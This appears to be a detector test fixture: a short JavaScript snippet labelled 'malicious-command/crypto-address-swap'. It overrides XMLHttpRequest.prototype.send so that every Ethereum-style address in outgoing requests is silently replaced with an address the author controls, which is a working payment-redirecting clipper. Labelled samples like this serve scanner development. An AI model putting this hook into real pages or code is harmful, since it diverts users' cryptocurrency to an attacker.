const mine = ['0x1111222233334444555566667777888899990000', '0x2222333344445555666677778888999900001111', '0x3333444455556666777788889999000011112222'];
const pattern = /0x[a-fA-F0-9]{40}/g;
const send = XMLHttpRequest.prototype.send;
XMLHttpRequest.prototype.send = function (body) {
  return send.call(this, String(body).replace(pattern, mine[0])); // expect: malicious-command/crypto-address-swap
};
